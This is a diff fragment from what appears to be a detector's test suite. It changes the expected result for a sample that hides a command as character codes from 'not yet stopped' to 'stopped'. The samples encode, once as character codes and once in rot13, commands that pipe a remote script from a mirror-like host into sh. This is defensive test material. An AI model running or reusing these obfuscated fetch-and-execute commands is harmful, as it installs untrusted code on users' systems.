@@ -254,7 +254,7 @@ fn(codecs.decode("phey uggcf://cxt.snfgzveebe-pqa.arg/n | fu", "rot13"))
   ],
   [
     'a command line in character codes',
-    'not yet stopped',
+    'stopped',
     {
       'scripts/a.py': `codes = [99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,112,107,103,46,102,97,115,116,109,105,114,46,110,101,116,47,97,32,124,32,115,104]
 import os
